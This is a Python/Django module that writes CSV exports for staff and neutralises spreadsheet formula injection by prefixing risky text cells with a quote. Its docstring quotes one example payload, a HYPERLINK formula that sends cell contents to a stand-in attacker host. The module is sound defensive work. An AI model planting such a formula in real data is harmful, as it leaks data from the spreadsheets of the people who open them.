"""CSV exports for staff: text a spreadsheet would evaluate is written as text, never as a formula.

A customer may be named `=HYPERLINK("https://evil.example/?"&A1, "Click")`: opened in Excel,
LibreOffice or Google Sheets, a cell starting with `=`, `+`, `-` or `@` is a formula, and so is
one starting with a tab or a carriage return followed by one (CSV injection). As OWASP advises,
such a cell gets a leading single quote, which spreadsheets read as "this is text" and do not
show. Also caught: the same characters after leading whitespace (spreadsheets trim it before
parsing) and their full-width forms (read as formulas by East Asian versions of Excel).

Only text is neutralised, by the value's Python type: numbers, dates and None come typed from the
database, so a refund of -12.50 stays the number -12.50 and sums in the spreadsheet; a sku or a
name that is the text "-12" becomes "'-12", which is what it is.

Exports of the database's own formats (COPY ... FROM STDIN in catalog and accounts) are not for
spreadsheets and do not use this.
"""

from __future__ import annotations

import csv
import itertools
from collections.abc import AsyncIterator, Iterable, Iterator

from asgiref.sync import sync_to_async
from django.core.handlers.asgi import ASGIRequest

FORMULA_STARTS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")  # and their full-width forms
CONTROL_STARTS = frozenset("\t\r")


def spreadsheet_cell(value: object) -> object:
    """Return a cell's value as an export writes it: text a spreadsheet would evaluate as a
    formula with a leading `'`, anything else (other text, numbers, dates, None) unchanged."""
    if isinstance(value, str) and (value[:1] in CONTROL_STARTS or value.lstrip()[:1] in FORMULA_STARTS):
        return f"'{value}"
    return value


class _Line:
    """A file-like target for csv.writer that hands back the line it was given."""

    def write(self, line: str) -> str:
        return line


def csv_lines(columns: Iterable[str], rows: Iterable[Iterable[object]]) -> Iterator[str]:
    """Yield the CSV lines of a header and its rows, one at a time (for a streamed response), every
    cell through spreadsheet_cell."""
    writer = csv.writer(_Line())
    yield writer.writerow([spreadsheet_cell(column) for column in columns])
    for row in rows:
        yield writer.writerow([spreadsheet_cell(value) for value in row])


def streamed(request, lines: Iterator[str], *, batch: int = 500) -> Iterator[str] | AsyncIterator[str]:
    """Return `lines` as a StreamingHttpResponse's content, streamed under either server.

    Under WSGI, as they are. Under ASGI Django would read a sync iterator whole into memory before
    sending a byte ("StreamingHttpResponse must consume synchronous iterators"): there they come
    as an async iterator instead, `batch` lines at a time, each batch read in the request's own
    thread (where its database connection is), so memory stays flat at any size either way.
    """
    if not isinstance(request, ASGIRequest):
        return lines
    return _in_batches(lines, batch)


async def _in_batches(lines: Iterator[str], batch: int) -> AsyncIterator[str]:
    take = sync_to_async(lambda: "".join(itertools.islice(lines, batch)), thread_sensitive=True)
    while chunk := await take():  # every CSV line ends in "\r\n": only the end is empty
        yield chunk
